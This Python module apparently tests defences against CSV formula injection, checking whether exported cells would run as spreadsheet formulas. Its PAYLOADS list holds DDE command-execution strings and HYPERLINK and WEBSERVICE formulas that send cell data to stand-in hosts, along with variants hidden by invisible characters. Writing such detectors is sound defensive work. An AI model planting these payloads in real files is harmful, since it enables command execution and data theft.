"""What a spreadsheet makes of a CSV, told without the code that writes one: what would run."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

NUMBER = re.compile(r"-?\d+(\.\d+)?")
# Comma, and what a spreadsheet of another country, or an import dialog, splits at.
DELIMITERS = (",", ";", "\t")
# A program strips what has no ink; these have none though Unicode calls them letters or marks.
_NO_INK = frozenset("\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u2800\u3164\ufe0f\uffa0")

# Signs that none of our own cells begins with, whatever follows.
_OPENING = frozenset("\t\r\n")

PAYLOADS = (
    # Each sign that opens a formula, alone and with what it would do.
    "=", "+", "-", "@", "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "-12.50", "+49301234567",
    "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    '=HYPERLINK("https://collect.example/?x="&A1,"Details")',
    '=WEBSERVICE("https://collect.example/"&A1)',
    '=IMPORTXML(CONCAT("https://x.example/",A1),"//a")', '=IMPORTRANGE("sheet","A1:B9")',
    '=IMAGE("https://collect.example/p.png")', "=rundll32|'x.dll,y'!A", "=1+1;=2+2", '="a,b"',
    "=A1&\"'\"",
    # The same in the full width of East Asia, in small forms, with the typographic minus.
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\ufe661+1", "\ufe6bSUM(1)", "\u22121+1",
    # Hidden behind what shows nothing.
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   -1+1", "\u00a0=1+1", "\u200b=1+1",
    "\ufeff=1+1", "\u2060\u00a0+1", "\u3000=1+1", "\u202e=1+1", "\x0b=1+1", "\x1f@SUM(1)",
    "\u00ad=1+1", "\u3164=1+1", "\ttab alone", "\rreturn alone", "\0=1+1",
    # Behind what would end the cell: separators, quotes, line ends.
    "a;=1+1", "a;\u200b =cmd|'/C calc'!A0", 'a;"=1+1"', 'a";"=1+1', 'a","=1+1', "a,=1+1,b",
    "a\t=1+1", 'a\t"+1+1', "a\n=1+1", "a\r=1+1", "a\r\n@SUM(1)", 'x"\r\n=1+1,"', '"=1+1"',
    '""=1+1', ";=1+1", '";=1+1',
    # With an apostrophe already there, which has to come back as well.
    "'=1+1", "''=1+1", "'\t=1+1", "a;'=1+1", "'", "'plain'", "# a remark", "'#",
)  # fmt: skip


def cells(content: bytes, delimiter: str) -> list[list[str]]:
    """Every cell, as a program reads the bytes that splits at this sign."""
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula: by its first sign that shows."""
    shown = next((sign for sign in cell if not _hidden(sign)), "")
    return unicodedata.normalize("NFKC", shown) in {"=", "+", "-", "@", "\u2212"}


def live(content: bytes, numbers: frozenset[str] = frozenset()) -> list[str]:
    """The cells that would run, each with the sign it was split at; a number in its column is none.

    Args:
        content: the file.
        numbers: the columns of numbers, by the name in the first row.
    """
    header = cells(content, ",")[0]
    found = []
    for delimiter in DELIMITERS:
        for row in cells(content, delimiter):
            for place, cell in enumerate(row):
                named = delimiter == "," and place < len(header) and header[place] in numbers
                opens = runs(cell) or (delimiter == "," and cell[:1] in _OPENING)
                if opens and not (named and NUMBER.fullmatch(cell)):
                    found.append(f"split at {delimiter!r}: {cell!r}")
    return found


def _hidden(sign: str) -> bool:
    return sign in _NO_INK or unicodedata.category(sign) in {"Cc", "Cf", "Zs", "Zl", "Zp"}
